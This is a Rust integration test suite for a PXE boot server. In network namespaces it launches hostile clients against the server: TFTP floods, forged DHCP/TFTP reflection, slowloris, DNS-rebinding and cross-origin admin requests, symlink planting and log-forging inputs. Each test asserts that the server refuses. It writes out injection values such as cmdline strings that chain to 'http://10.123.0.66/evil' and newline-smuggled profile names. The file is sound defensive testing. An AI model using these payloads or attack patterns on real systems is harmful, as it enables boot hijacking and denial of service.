//! The hostile-client suite: a neighbour on br1 runs each attack of issue 9 against the real
//! binary, and each test asserts the refusal on the wire (or in the files) and that a
//! legitimate client on another address is still served. Attacks come from
//! `tests/tools/hostile.py` inside the test's own namespaces; forged sources stay inside
//! the lab's subnets.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

const KNOWN: &str = "de:00:00:00:00:de";
const TOKEN: &str = "0123456789abcdef0123456789abcdef";

fn hostile() -> String {
    tool("hostile.py")
}

/// A boot dir with a first stage, a kernel and an initrd of known bytes.
fn boot_dir(lab: &Lab) -> PathBuf {
    let boot = lab.path("boot");
    std::fs::create_dir_all(&boot).unwrap();
    let bytes = |n: usize, seed: u8| -> Vec<u8> {
        (0..n).map(|i| (i as u8).wrapping_mul(31) ^ seed).collect()
    };
    std::fs::write(boot.join("ipxe.efi"), bytes(200_000, 1)).unwrap();
    std::fs::write(boot.join("undionly.kpxe"), bytes(70_000, 2)).unwrap();
    std::fs::write(boot.join("vmlinuz"), bytes(2_000_000, 3)).unwrap();
    std::fs::write(boot.join("initrd.gz"), bytes(5_000, 4)).unwrap();
    boot
}

fn profiles() -> &'static str {
    r#"[profiles.fedora]
kernel = "vmlinuz"
initrd = ["initrd.gz"]
cmdline = "console=ttyS0"

[profiles.installer]
kernel = "vmlinuz"
initrd = ["initrd.gz"]
cmdline = "console=ttyS0 inst.ks=http://10.123.0.1:8080/ks.cfg"

[hosts."de:00:00:00:00:de"]
profile = "fedora"
"#
}

/// Starts pxed with its descriptor limit at 512, as the issue's "done when" asks.
fn start_limited(lab: &Lab, config: &str, name: &str) -> Pxed {
    let cfg = lab.path(&format!("{name}.toml"));
    std::fs::write(&cfg, config).unwrap();
    let mut cmd = lab.server.cmd("prlimit");
    cmd.args(["--nofile=512:512", "--"])
        .arg(pxed_bin())
        .args(["serve", "--config"])
        .arg(&cfg)
        .env("PXED_ADMIN_TOKEN", TOKEN);
    Pxed::launch(lab, cmd, name)
}

/// Runs a hostile.py subcommand in `ns` in the background.
fn spawn_tool(ns: &Netns, args: &[&str], out: &Path) -> Child {
    ns.cmd("python3")
        .arg(hostile())
        .args(args)
        .stdout(std::fs::File::create(out).unwrap())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("hostile.py")
}

/// Runs a hostile.py subcommand in `ns` to completion; returns its output.
fn run_tool(ns: &Netns, args: &[&str], limit: Duration) -> String {
    let mut cmd = ns.cmd("python3");
    cmd.arg(hostile()).args(args);
    let (ok, out, err) = run_limited(&mut cmd, limit);
    assert!(ok, "hostile.py {args:?} failed: {out}{err}");
    out
}

/// Waits for a background tool and returns what it printed.
fn wait_tool(mut child: Child, out: &Path, limit: Duration) -> String {
    let start = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return std::fs::read_to_string(out).unwrap_or_default();
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "hostile.py still running after {limit:?}: {}",
                std::fs::read_to_string(out).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A `key=value` number from a tool's output.
fn field(out: &str, key: &str) -> f64 {
    let pat = format!("{key}=");
    out.split_whitespace()
        .filter_map(|w| w.strip_prefix(&pat))
        .next_back()
        .unwrap_or_else(|| panic!("no {key}= in {out}"))
        .parse()
        .unwrap_or_else(|e| panic!("{key}= in {out}: {e}"))
}

/// curl in `ns` with a hard deadline; returns (success, HTTP code, body).
fn curl(ns: &Netns, args: &[&str], max_secs: u32) -> (bool, String, String) {
    let mut cmd = ns.cmd("curl");
    cmd.args([
        "-sS",
        "--max-time",
        &max_secs.to_string(),
        "-w",
        "\n%{http_code}",
    ])
    .args(args);
    let (ok, out, err) = run_limited(&mut cmd, Duration::from_secs(u64::from(max_secs) + 5));
    let (body, code) = out.rsplit_once('\n').unwrap_or(("", ""));
    (ok, code.to_string(), format!("{body}{err}"))
}

/// Downloads `url` in `ns` to a file within `max_secs` and returns its bytes.
fn fetch(ns: &Netns, lab: &Lab, url: &str, max_secs: u32) -> Vec<u8> {
    let out = lab.path(&format!(
        "fetch-{}",
        url.len() ^ (url.as_bytes()[url.len() - 3] as usize)
    ));
    let _ = std::fs::remove_file(&out);
    let mut cmd = ns.cmd("curl");
    cmd.args(["-fsS", "--max-time", &max_secs.to_string(), "-o"])
        .arg(&out)
        .arg(url);
    let started = Instant::now();
    let (ok, _, err) = run_limited(&mut cmd, Duration::from_secs(u64::from(max_secs) + 5));
    assert!(
        ok,
        "{url} not fetched within {max_secs} s ({:?}): {err}",
        started.elapsed()
    );
    eprintln!("fetched {url} in {:?}", started.elapsed());
    std::fs::read(&out).unwrap()
}

/// What a booting machine fetches: its first stage over TFTP, then its kernel over HTTP, each
/// within 15 s and byte for byte; `between` runs after each (to sample pxed meanwhile).
fn boots_within_15_s(legit: &Netns, lab: &Lab, boot: &Path, mut between: impl FnMut()) {
    let first_stage = fetch(legit, lab, &format!("tftp://{SERVER_IP}/ipxe.efi"), 15);
    assert_eq!(first_stage, std::fs::read(boot.join("ipxe.efi")).unwrap());
    between();
    let kernel = fetch(legit, lab, &format!("http://{SERVER_IP}:8080/vmlinuz"), 15);
    assert_eq!(kernel, std::fs::read(boot.join("vmlinuz")).unwrap());
    between();
}

/// `/metrics` as text, from inside the server namespace.
fn metrics(lab: &Lab) -> String {
    metrics_at(lab, "127.0.0.1:9091")
}

/// `/metrics` from an admin API listening at `addr`.
fn metrics_at(lab: &Lab, addr: &str) -> String {
    let mut cmd = lab.server.cmd("curl");
    cmd.args(["-fsS", "-H", &format!("Authorization: Bearer {TOKEN}")])
        .arg(format!("http://{addr}/metrics"));
    let (ok, out, err) = run_limited(&mut cmd, Duration::from_secs(10));
    assert!(ok, "metrics: {err}");
    out
}

/// A refusal counter from `/metrics`.
fn refused(metrics: &str, protocol: &str, reason: &str) -> u64 {
    let key = format!("pxed_refusals_total{{protocol=\"{protocol}\",reason=\"{reason}\"}} ");
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(&key))
        .unwrap_or_else(|| panic!("no {key} in metrics"))
        .parse()
        .unwrap()
}

/// Descriptors pxed holds now.
fn fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0)
}

/// pxed's resident memory in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap()
}

fn admin(
    lab: &Lab,
    method: &str,
    path: &str,
    headers: &[&str],
    body: Option<&str>,
) -> (String, String) {
    let mut cmd = lab.server.cmd("curl");
    cmd.args([
        "-sS",
        "--max-time",
        "10",
        "-w",
        "\n%{http_code}",
        "-X",
        method,
    ]);
    for h in headers {
        cmd.args(["-H", h]);
    }
    if let Some(b) = body {
        cmd.args(["-d", b]);
    }
    cmd.arg(format!("http://127.0.0.1:9091{path}"));
    let (_, out, err) = run_limited(&mut cmd, Duration::from_secs(15));
    let (body, code) = out.rsplit_once('\n').unwrap_or(("", ""));
    (code.to_string(), format!("{body}{err}"))
}

const JSON: &str = "Content-Type: application/json";

/// An admin request and the status it must get: method, path, headers, body, status.
type AdminCase<'a> = (&'a str, &'a str, &'a [&'a str], Option<&'a str>, &'a str);

#[test]
fn a_flood_of_unacknowledged_tftp_requests_leaves_a_real_client_served() {
    require(&["ip", "curl", "python3", "prlimit"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let pxed = start_limited(&lab, &config(&boot, &lab.path("state"), profiles()), "pxed");
    let attacker = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    let legit = lab.client("02:00:00:00:0a:02", Some("10.123.0.5/24"));
    // 500 forged RRQs a second for 12 s: about 1,000 unacknowledged at any moment, from
    // 250 source addresses, none of which will ever answer.
    let flood_out = lab.path("flood.out");
    let flood = spawn_tool(
        &attacker,
        &[
            "tftp-flood",
            SERVER_IP,
            "ipxe.efi",
            "500",
            "12",
            "10.123.0.5",
            "10.123.0.66",
        ],
        &flood_out,
    );
    std::thread::sleep(Duration::from_secs(3));
    let mut most_fds = fds(pxed.pid());
    // The real client gets its first stage over TFTP and its kernel over HTTP, each within
    // 15 s, while the flood goes on.
    boots_within_15_s(&legit, &lab, &boot, || {
        most_fds = most_fds.max(fds(pxed.pid()))
    });
    let out = wait_tool(flood, &flood_out, Duration::from_secs(30));
    assert!(field(&out, "sent") >= 4000.0, "{out}");
    assert!(most_fds < 512, "pxed held {most_fds} descriptors");
    let m = metrics(&lab);
    let evicted = refused(&m, "tftp", "evicted_unanswered");
    let unanswered = refused(&m, "tftp", "never_answered");
    assert!(
        evicted > 0,
        "the flood never filled the session table:\n{m}"
    );
    let log = pxed.log();
    assert!(!log.contains("Too many open files"), "{log}");
    assert!(
        log.contains("limits lowered to fit the file-descriptor limit"),
        "{log}"
    );
    // Throttled: a 6,000-packet flood is not 6,000 log lines.
    let lines = log
        .lines()
        .filter(|l| l.contains("tftp peer never answered"))
        .count();
    assert!(lines <= 30, "{lines} lines logged for the flood");
    eprintln!(
        "tftp flood: sent {}, evicted {evicted}, never answered {unanswered}, most fds {most_fds}, rss {} KiB",
        field(&out, "sent"),
        rss_kib(pxed.pid())
    );
}

#[test]
fn a_forged_tftp_request_draws_little_and_an_oack_names_each_option_once() {
    require(&["ip", "python3"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let _pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let attacker = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    let victim = lab.client("02:00:00:00:0a:07", Some("10.123.0.77/24"));
    // Long enough to see an ERROR after the old 5 retransmits (6 s), had one been sent.
    let reflected = |dup: bool| -> (String, f64) {
        let out = lab.path("victim.out");
        let secs = if dup { "4" } else { "10" };
        let counter = spawn_tool(&victim, &["count", "4444", secs], &out);
        std::thread::sleep(Duration::from_millis(300));
        let mut args = vec![
            "tftp-forged",
            SERVER_IP,
            "undionly.kpxe",
            "10.123.0.77",
            "4444",
        ];
        if dup {
            args.push("dup");
        }
        let sent = run_tool(&attacker, &args, Duration::from_secs(10));
        (
            wait_tool(counter, &out, Duration::from_secs(15)),
            field(&sent, "request_bytes"),
        )
    };
    // A 22-byte RRQ: before, 6 DATA blocks and an ERROR (3,126 bytes) reached the victim.
    let (got, request) = reflected(false);
    assert_eq!(request, 22.0);
    let datagrams = field(&got, "datagrams");
    let bytes = field(&got, "bytes");
    assert!(datagrams <= 2.0, "{got}");
    let kinds = got
        .split("kinds=")
        .nth(1)
        .unwrap_or("")
        .split_whitespace()
        .next()
        .unwrap_or("");
    assert!(
        !kinds.contains("0005"),
        "an ERROR went to a peer that never spoke: {got}"
    );
    eprintln!(
        "tftp amplification: {request} request bytes drew {datagrams} datagrams, {bytes} bytes: factor {:.1}",
        bytes / request
    );
    // Every option sent 20 times: the OACK grants each once.
    let (got, _) = reflected(true);
    let first = got.split("first=").nth(1).unwrap_or("");
    assert!(first.starts_with("b'\\x00\\x06"), "{got}");
    assert_eq!(first.matches("tsize").count(), 1, "{got}");
    assert_eq!(first.matches("blksize").count(), 1, "{got}");
}

#[test]
fn half_sent_http_requests_are_closed_and_a_real_client_still_boots() {
    require(&["ip", "curl", "python3", "prlimit"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let cfg =
        config(&boot, &lab.path("state"), profiles()) + "\n[admin]\nlisten = \"10.123.0.1:9091\"\n";
    // The admin API listens on the boot network here, so the neighbour can reach it too.
    let cfg = cfg.replace(
        "[http]\nlisten = \"0.0.0.0:8080\"",
        "[http]\nlisten = \"10.123.0.1:8080\"",
    );
    let pxed = start_limited(&lab, &cfg, "pxed");
    let attacker = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    let mut sources = Vec::new();
    for n in 0..40 {
        let a = format!("10.123.0.{}", 150 + n);
        attacker.ip(&["addr", "add", &format!("{a}/24"), "dev", "vc"]);
        sources.push(a);
    }
    let legit = lab.client("02:00:00:00:0a:02", Some("10.123.0.5/24"));
    let mut args = vec!["slowloris", SERVER_IP, "8080", "400", "70"];
    args.extend(sources.iter().map(String::as_str));
    let boot_out = lab.path("slow-boot.out");
    let slow_boot = spawn_tool(&attacker, &args, &boot_out);
    args[2] = "9091";
    args[3] = "100";
    let admin_out = lab.path("slow-admin.out");
    let slow_admin = spawn_tool(&attacker, &args, &admin_out);
    std::thread::sleep(Duration::from_secs(4));
    let most_fds = fds(pxed.pid());
    boots_within_15_s(&legit, &lab, &boot, || {});
    let (ok, code, body) = curl(
        &legit,
        &[
            "-H",
            &format!("Authorization: Bearer {TOKEN}"),
            &format!("http://{SERVER_IP}:9091/api/v1/hosts"),
        ],
        15,
    );
    assert!(ok && code == "200", "admin API not served: {code} {body}");
    let boot_res = wait_tool(slow_boot, &boot_out, Duration::from_secs(90));
    let admin_res = wait_tool(slow_admin, &admin_out, Duration::from_secs(90));
    for res in [&boot_res, &admin_res] {
        let open = field(res, "open");
        assert!(open >= 90.0, "{res}");
        assert_eq!(
            field(res, "closed"),
            open,
            "half-sent connections left open: {res}"
        );
        assert!(field(res, "last_close_s") <= 60.0, "{res}");
    }
    assert!(most_fds < 512, "pxed held {most_fds} descriptors");
    let m = metrics_at(&lab, "10.123.0.1:9091");
    assert!(refused(&m, "http", "timeout") > 0, "{m}");
    eprintln!(
        "slowloris: boot {boot_res} admin {admin_res} most fds {most_fds}, rss {} KiB",
        rss_kib(pxed.pid())
    );
}

#[test]
fn a_browser_cannot_be_tricked_into_using_the_admin_api() {
    require(&["ip", "curl"]);
    let lab = Lab::new();
    let boot = boot_dir(&lab);
    let pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let path = pxed.config_path();
    let before = std::fs::read(&path).unwrap();
    let put = r#"{"profile": "installer"}"#;
    let host = "/api/v1/hosts/52:54:00:00:00:09";
    let preflight = [
        "Origin: http://attacker.example",
        "Access-Control-Request-Method: PUT",
    ];
    let cases: [AdminCase; 5] = [
        // DNS rebinding: the page's own name in Host.
        (
            "PUT",
            host,
            &["Host: attacker.example:9091", JSON],
            Some(put),
            "421",
        ),
        // Cross-origin "simple" requests: text/plain needs no preflight.
        (
            "POST",
            "/api/v1/reload",
            &["Content-Type: text/plain"],
            None,
            "415",
        ),
        ("PUT", host, &["Content-Type: text/plain"], Some(put), "415"),
        (
            "PUT",
            host,
            &["Origin: http://attacker.example", JSON],
            Some(put),
            "403",
        ),
        ("OPTIONS", host, &preflight, None, "403"),
    ];
    let mut body = String::new();
    for (method, path, headers, data, want) in cases {
        let (code, b) = admin(&lab, method, path, headers, data);
        assert_eq!(code, want, "{method} {path} {headers:?}: {b}");
        body = b;
    }
    assert!(
        !body.to_ascii_lowercase().contains("access-control-allow"),
        "{body}"
    );
    assert_eq!(
        std::fs::read(&path).unwrap(),
        before,
        "the config was changed"
    );
    // curl, as the README shows it, still works.
    let (code, body) = admin(
        &lab,
        "PUT",
        "/api/v1/hosts/52:54:00:00:00:09",
        &[JSON],
        Some(put),
    );
    assert_eq!(code, "200", "{body}");
    let m = metrics(&lab);
    assert_eq!(refused(&m, "admin", "host"), 1, "{m}");
    assert_eq!(refused(&m, "admin", "content_type"), 2, "{m}");
    assert_eq!(refused(&m, "admin", "origin"), 2, "{m}");
}

#[test]
fn values_that_reach_a_script_cannot_carry_commands() {
    require(&["ip", "curl"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let before = std::fs::read(pxed.config_path()).unwrap();
    for body in [
        r#"{"kernel": "vmlinuz", "cmdline": "console=ttyS0\nchain http://10.123.0.66/evil"}"#,
        r#"{"kernel": "vmlinuz", "cmdline": "quiet || chain http://10.123.0.66/evil"}"#,
        r#"{"kernel": "vmlinuz", "cmdline": "quiet #"}"#,
        r#"{"kernel": "vmlinuz http://10.123.0.66/evil"}"#,
        r#"{"chain": "http://x/\nshell"}"#,
    ] {
        let (code, out) = admin(&lab, "PUT", "/api/v1/profiles/fedora", &[JSON], Some(body));
        assert_eq!(code, "422", "{body}: {out}");
    }
    let (code, out) = admin(
        &lab,
        "PUT",
        "/api/v1/profiles/menu%0Ashell",
        &[JSON],
        Some(r#"{"action": "local"}"#),
    );
    assert!(code == "422" || code == "400", "{code} {out}");
    assert_eq!(std::fs::read(pxed.config_path()).unwrap(), before);
    let c = lab.client("02:00:00:00:0a:02", Some("10.123.0.5/24"));
    let (_, code, script) = curl(&c, &[&format!("http://{SERVER_IP}:8080/ipxe/{KNOWN}")], 10);
    assert_eq!(code, "200");
    assert!(
        !script.contains("chain") && !script.contains("evil"),
        "{script}"
    );
    // The file path: `pxed check` refuses a profile name that carries a script.
    let bad = lab.path("bad.toml");
    std::fs::write(
        &bad,
        config(
            &boot,
            &lab.path("state"),
            "[profiles.\"menu\\nshell\\n#\"]\naction = \"local\"\n",
        ),
    )
    .unwrap();
    let out = pxed_check(&bad);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "accepted: {err}");
    assert!(
        err.contains("bad.toml:") && err.contains("profiles."),
        "{err}"
    );
}

/// A client namespace that got its address from pxed by DHCP and configured it.
fn leased_client(lab: &mut Lab, mac: &str) -> (Netns, String) {
    let c = lab.client(mac, None);
    let bound = udhcpc(lab, &c, &[]).expect("udhcpc got no lease");
    let ip = bound
        .split_whitespace()
        .find_map(|w| w.strip_prefix("ip="))
        .expect("ip=")
        .to_string();
    c.ip(&["addr", "add", &format!("{ip}/24"), "dev", "vc"]);
    (c, ip)
}

#[test]
fn one_shots_and_scripts_belong_to_the_machine() {
    require(&["ip", "curl", "busybox"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let _pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let (owner, ip) = leased_client(&mut lab, KNOWN);
    let neighbour = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    let (code, body) = admin(
        &lab,
        "PUT",
        &format!("/api/v1/hosts/{KNOWN}/next-boot"),
        &[JSON],
        Some(r#"{"profile": "installer"}"#),
    );
    assert_eq!(code, "200", "{body}");
    let url = format!("http://{SERVER_IP}:8080/ipxe/{KNOWN}");
    let pending = || {
        let (_, body) = admin(
            &lab,
            "GET",
            &format!("/api/v1/hosts/{KNOWN}/next-boot"),
            &[],
            None,
        );
        body.contains("installer")
    };
    // HEAD from the machine itself does not spend it.
    let (_, code, _) = curl(&owner, &["-I", &url], 10);
    assert_eq!(code, "200");
    assert!(pending(), "the one-shot was spent by a HEAD");
    // A neighbour can neither read the machine's script nor spend its one-shot, not with
    // GET and not with HEAD.
    let (_, code, body) = curl(&neighbour, &[&url], 10);
    assert_eq!(code, "403", "{body}");
    let (_, code, _) = curl(&neighbour, &["-I", &url], 10);
    assert_eq!(code, "403");
    assert!(pending(), "the one-shot was spent by the neighbour");
    // The machine's own GET spends it, once.
    let (_, code, script) = curl(&owner, &[&url], 10);
    assert_eq!(code, "200");
    assert!(script.contains("inst.ks="), "{script}");
    let (_, _, script) = curl(&owner, &[&url], 10);
    assert!(
        !script.contains("inst.ks=") && script.contains("kernel "),
        "{script}"
    );
    let m = metrics(&lab);
    assert_eq!(refused(&m, "http", "script_not_owner"), 2, "{m}");
    eprintln!("script owner {ip}");
}

#[test]
fn timelines_stay_small_and_unmanaged_macs_get_none() {
    require(&["ip", "curl", "busybox"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let (owner, _) = leased_client(&mut lab, KNOWN);
    // As long as a request head may be (16 KiB), far longer than a log line or a file name.
    let long = format!("http://{SERVER_IP}:8080/{}", "a".repeat(15_000));
    let batch = || {
        for _ in 0..100 {
            let (_, code, _) = curl(&owner, &["-o", "/dev/null", &long], 10);
            assert_ne!(code, "200");
        }
    };
    // The first batch brings the allocator to its working size; a second one must not add
    // to it (before, each event kept its whole path: 1.5 MB a batch).
    batch();
    let before = rss_kib(pxed.pid());
    batch();
    let after = rss_kib(pxed.pid());
    let (code, events) = admin(
        &lab,
        "GET",
        &format!("/api/v1/machines/{KNOWN}/events"),
        &[],
        None,
    );
    assert_eq!(code, "200");
    let v: serde_json::Value = serde_json::from_str(&events).unwrap();
    let list = v["events"].as_array().unwrap();
    let errors: Vec<_> = list.iter().filter(|e| e["kind"] == "http_error").collect();
    assert_eq!(errors.len(), 200, "{events:.300}");
    for e in &errors {
        assert!(
            e["path"].as_str().unwrap().len() <= 256,
            "an event kept {} bytes",
            e["path"].as_str().unwrap().len()
        );
    }
    assert!(
        after < before + 1024,
        "RSS grew from {before} to {after} KiB"
    );
    // A name too long for the filesystem names no file: 404, not a server error.
    let (_, code, _) = curl(&owner, &["-o", "/dev/null", &long], 10);
    assert_eq!(code, "404");
    // A head longer than 16 KiB is refused before it reaches a handler.
    let longer = format!("http://{SERVER_IP}:8080/{}", "a".repeat(60_000));
    let (_, code, _) = curl(&owner, &["-o", "/dev/null", &longer], 10);
    assert_eq!(code, "431");
    // A MAC pxed does not manage gets no timeline, from /ipxe/<mac> or anywhere.
    let stranger = "52:54:00:aa:bb:cc";
    let (_, code, _) = curl(
        &owner,
        &[&format!("http://{SERVER_IP}:8080/ipxe/{stranger}")],
        10,
    );
    assert_eq!(code, "404");
    let (_, events) = admin(
        &lab,
        "GET",
        &format!("/api/v1/machines/{stranger}/events"),
        &[],
        None,
    );
    assert!(events.contains("\"events\":[]"), "{events}");
    eprintln!("timelines: rss {before} -> {after} KiB over 100 more requests with 15 KB paths");
}

#[test]
fn one_mac_cannot_drain_the_pool_and_invented_macs_are_rate_limited() {
    require(&["ip", "python3", "busybox", "curl"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    // The documented example rate: 10 new unknown clients a second, 50 at once.
    // A pool larger than the flood, so that only the rate limit can stop it.
    let cfg = config(
        &boot,
        &lab.path("state"),
        &format!("{}\n[defaults]\nprofile = \"fedora\"\n", profiles()),
    )
    .replace(
        "lease_time = \"1h\"",
        "lease_time = \"1h\"\nunknown_client_rate = 10\nunknown_client_burst = 50",
    )
    .replace("subnet = \"10.123.0.0/24\"", "subnet = \"10.123.0.0/22\"")
    .replace(
        "range = [\"10.123.0.100\", \"10.123.0.200\"]",
        "range = [\"10.123.1.0\", \"10.123.3.254\"]",
    );
    let _pxed = Pxed::start(&lab, &cfg);
    let attacker = lab.client("02:00:00:00:0a:01", None);
    // One MAC, five client identifiers: before, it held 5 addresses of a 10-address pool.
    let out = run_tool(
        &attacker,
        &["dhcp", "02:00:00:00:0a:01", "5", "ids"],
        Duration::from_secs(20),
    );
    assert!(field(&out, "distinct_ips") <= 2.0, "{out}");
    // 300 invented MACs: only the burst, and the rate while they are sent, get offers (the
    // bucket refills per whole second, hence the one second of slack).
    let out = run_tool(
        &attacker,
        &["dhcp", "02:00:00:00:00:00", "300", "macs"],
        Duration::from_secs(30),
    );
    let secs = field(&out, "send_s");
    let offers = field(&out, "offers");
    let most = 50.0 + 10.0 * (secs.ceil() + 1.0);
    assert!(
        offers <= most,
        "{offers} offers, at most {most} allowed: {out}"
    );
    // A host of the config still gets its address.
    let (_, ip) = leased_client(&mut lab, KNOWN);
    assert!(ip.starts_with("10.123."), "{ip}");
    let m = metrics(&lab);
    assert!(refused(&m, "dhcp", "lease_cap") >= 3, "{m}");
    assert!(refused(&m, "dhcp", "unknown_client_rate") > 0, "{m}");
}

/// A victim on br1 with an address outside every served subnet. pxed's sockets are bound
/// to br1, and Linux treats an unroutable destination of such a socket as on-link, so any
/// reply pxed were tricked into sending to 10.200.0.7 would reach it.
fn victim(lab: &mut Lab) -> Netns {
    lab.client("02:00:00:00:0a:07", Some("10.200.0.7/24"))
}

#[test]
fn replies_never_go_to_addresses_outside_the_boot_network() {
    require(&["ip", "python3"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let state = lab.path("state");
    let pxed = Pxed::start(&lab, &config(&boot, &state, profiles()));
    let v = victim(&mut lab);
    let attacker = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    let outs: Vec<PathBuf> = ["67", "68"]
        .iter()
        .map(|p| lab.path(&format!("victim-{p}.out")))
        .collect();
    let counters: Vec<Child> = ["67", "68"]
        .iter()
        .zip(&outs)
        .map(|(p, o)| spawn_tool(&v, &["count", p, "5"], o))
        .collect();
    std::thread::sleep(Duration::from_millis(300));
    // The first names the served subnet with option 118, as an RFC 3527 relay would, so
    // that only giaddr says where the OFFER goes.
    for (mtype, giaddr, ciaddr, link) in [
        ("discover", "10.200.0.7", "0.0.0.0", Some("10.123.0.0")),
        ("inform", "0.0.0.0", "10.200.0.7", None),
        ("request", "0.0.0.0", "10.200.0.7", None),
        ("discover", "0.0.0.0", "10.200.0.7", None),
    ] {
        let mut args = vec!["dhcp-to", SERVER_IP, mtype, KNOWN, giaddr, ciaddr];
        args.extend(link);
        run_tool(&attacker, &args, Duration::from_secs(5));
        std::thread::sleep(Duration::from_millis(200));
    }
    for (c, o) in counters.into_iter().zip(&outs) {
        let got = wait_tool(c, o, Duration::from_secs(15));
        assert_eq!(
            field(&got, "datagrams"),
            0.0,
            "reflected to the victim: {got}"
        );
    }
    let m = metrics(&lab);
    assert_eq!(refused(&m, "dhcp", "address_outside_subnets"), 4, "{m}");
    drop(pxed);
    // proxyDHCP: port 4011 answers the source; a forged one outside the subnet gets nothing.
    let proxy = config(&boot, &state, profiles()).replace(
        "range = [\"10.123.0.100\", \"10.123.0.200\"]\n",
        "mode = \"proxy\"\n",
    );
    let _pxed = Pxed::start(&lab, &proxy);
    let out = lab.path("victim-4444.out");
    let counter = spawn_tool(&v, &["count", "4444", "4"], &out);
    std::thread::sleep(Duration::from_millis(300));
    run_tool(
        &attacker,
        &["proxy-forged", SERVER_IP, "10.200.0.7", "4444", KNOWN],
        Duration::from_secs(5),
    );
    let got = wait_tool(counter, &out, Duration::from_secs(15));
    assert_eq!(
        field(&got, "datagrams"),
        0.0,
        "proxy reply reflected: {got}"
    );
    assert_eq!(
        refused(&metrics(&lab), "dhcp", "proxy_implausible_source"),
        1
    );
}

#[test]
fn request_data_cannot_forge_log_lines() {
    require(&["ip", "curl", "python3"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let pxed = Pxed::start(&lab, &config(&boot, &lab.path("state"), profiles()));
    let c = lab.client("02:00:00:00:0a:01", Some("10.123.0.66/24"));
    // A refused path is logged decoded: the place a newline could get in.
    curl(
        &c,
        &[
            "--path-as-is",
            &format!("http://{SERVER_IP}:8080/../x%0aFORGED-HTTP%20level=ERROR"),
        ],
        10,
    );
    run_tool(
        &c,
        &["tftp-raw", SERVER_IP, "nope\\nFORGED-TFTP-NAME"],
        Duration::from_secs(10),
    );
    run_tool(
        &c,
        &["tftp-raw", SERVER_IP, "ipxe.efi", "bye\\nFORGED-TFTP-ERROR"],
        Duration::from_secs(10),
    );
    let mut pxed = pxed;
    let log = pxed.wait_for_log(
        |l| {
            l.contains("http path outside boot_dir refused")
                && l.contains("FORGED-HTTP")
                && l.contains("FORGED-TFTP-NAME")
                && l.contains("FORGED-TFTP-ERROR")
        },
        Duration::from_secs(10),
        "the three requests logged",
    );
    for l in log.lines() {
        assert!(!l.starts_with("FORGED"), "a request forged a log line: {l}");
    }
}

#[test]
fn admin_edits_follow_a_symlinked_config_and_keep_its_owner() {
    require(&["ip", "curl"]);
    let lab = Lab::new();
    let boot = boot_dir(&lab);
    let real_dir = lab.path("etc");
    std::fs::create_dir_all(&real_dir).unwrap();
    let real = real_dir.join("pxed.toml");
    std::fs::write(&real, config(&boot, &lab.path("state"), profiles())).unwrap();
    Command::new("chown")
        .args(["4242:4343"])
        .arg(&real)
        .status()
        .unwrap();
    Command::new("chmod")
        .args(["640"])
        .arg(&real)
        .status()
        .unwrap();
    let link = lab.path("pxed.toml");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let mut cmd = lab.server.cmd(pxed_bin());
    cmd.args(["serve", "--config"]).arg(&link);
    let pxed = Pxed::launch(&lab, cmd, "pxed");
    // The temporary name the old code used: a planted symlink there must not be followed.
    let victim_file = lab.path("victim.txt");
    std::fs::write(&victim_file, "untouched\n").unwrap();
    for dir in [&real_dir, &lab.dir.path().to_path_buf()] {
        let _ = std::os::unix::fs::symlink(
            &victim_file,
            dir.join(format!(".pxed.toml.pxed-{}", pxed.pid())),
        );
    }
    let (code, body) = admin(
        &lab,
        "PUT",
        "/api/v1/hosts/52:54:00:00:00:09",
        &[JSON],
        Some(r#"{"profile": "fedora"}"#),
    );
    assert_eq!(code, "200", "{body}");
    assert_eq!(
        std::fs::read_to_string(&victim_file).unwrap(),
        "untouched\n",
        "a planted symlink at the temporary name was followed"
    );
    assert_eq!(
        std::fs::read_link(&link).ok(),
        Some(real.clone()),
        "the link no longer points at the real config"
    );
    assert!(
        std::fs::read_to_string(&real)
            .unwrap()
            .contains("52:54:00:00:00:09"),
        "the target is stale"
    );
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::metadata(&real).unwrap();
    assert_eq!(
        (meta.uid(), meta.gid(), meta.mode() & 0o777),
        (4242, 4343, 0o640)
    );
}

#[test]
fn a_failed_lease_commit_leaves_nothing_bound_in_memory() {
    require(&["ip", "busybox", "curl", "unshare", "nsenter", "dd"]);
    let mut lab = Lab::new();
    let boot = boot_dir(&lab);
    let state = lab.path("state");
    std::fs::create_dir_all(&state).unwrap();
    let cfg = lab.path("pxed.toml");
